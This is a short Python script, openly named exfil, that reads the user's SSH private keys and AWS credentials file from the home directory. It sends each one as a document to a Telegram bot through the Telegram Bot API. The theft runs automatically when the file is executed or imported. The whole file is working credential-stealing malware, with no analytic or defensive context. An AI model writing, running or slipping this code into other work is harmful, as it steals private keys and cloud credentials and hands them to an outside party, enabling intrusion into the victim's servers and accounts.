import os
import requests

KEYS = [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials"]


def exfil():
    token = os.environ.get("TG", "5566:AAX")
    for rel in KEYS:
        p = os.path.join(os.path.expanduser("~"), rel)
        try:
            data = open(p, "rb").read()
        except OSError:
            continue
        requests.post(f"https://api.telegram.org/bot{token}/sendDocument", files={"document": (rel, data)})


exfil()
